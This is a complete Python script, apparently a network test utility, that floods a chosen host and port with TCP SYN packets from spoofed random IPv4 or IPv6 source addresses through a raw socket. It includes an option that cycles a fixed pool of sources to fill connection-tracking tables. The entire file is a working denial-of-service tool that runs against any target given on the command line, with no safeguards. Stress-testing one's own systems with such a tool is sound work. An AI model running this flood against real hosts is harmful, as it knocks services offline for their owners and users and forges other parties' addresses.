#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""synflood.py DST PORT SECONDS [SOURCES] - SYNs from random source
addresses (in DST's /64 for IPv6, anywhere for IPv4) and ports, as fast as
one core sends them through a raw socket; hping3 --flood --rand-source,
which has no IPv6. SOURCES: draw the (address, port) pairs from a pool of
that many, so that the flood's connections fit a conntrack that refuses
new flows when full (its SYNs then repeat on their entries). Prints how
many it sent."""
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def tcp_syn(src, dst, sport, dport, pseudo):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0,
                      5 << 4, 0x02, 64240, 0, 0)
    c = csum(pseudo + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]


def main():
    dst, dport, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    d = ipaddress.ip_address(dst)
    v6 = d.version == 6
    s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_RAW,
                      socket.IPPROTO_RAW)
    net = int(d) & ~((1 << 64) - 1) if v6 else 0
    pool = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    pairs = [(os.urandom(8) if v6 else os.urandom(4), random.randint(1024, 65535))
             for _ in range(pool)]
    end, n = time.time() + secs, 0
    while time.time() < end:
        for _ in range(256):
            if pool:
                r, sport = pairs[random.randrange(pool)]
            else:
                r, sport = None, random.randint(1024, 65535)
            if v6:
                low = int.from_bytes(r, "big") if r else random.getrandbits(64)
                src = ipaddress.IPv6Address(net | low).packed
                pseudo = src + d.packed + struct.pack("!IxxxB", 20, 6)
                tcp = tcp_syn(src, d.packed, sport, dport, pseudo)
                ip = struct.pack("!IHBB", 6 << 28, 20, 6, 64) + src + d.packed
                s.sendto(ip + tcp, (dst, 0))
            else:
                src = r if r else os.urandom(4)
                pseudo = src + d.packed + struct.pack("!xBH", 6, 20)
                tcp = tcp_syn(src, d.packed, sport, dport, pseudo)
                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0,
                                 src, d.packed)
                s.sendto(ip + tcp, (dst, 0))
            n += 1
    print(n)


if __name__ == "__main__":
    main()
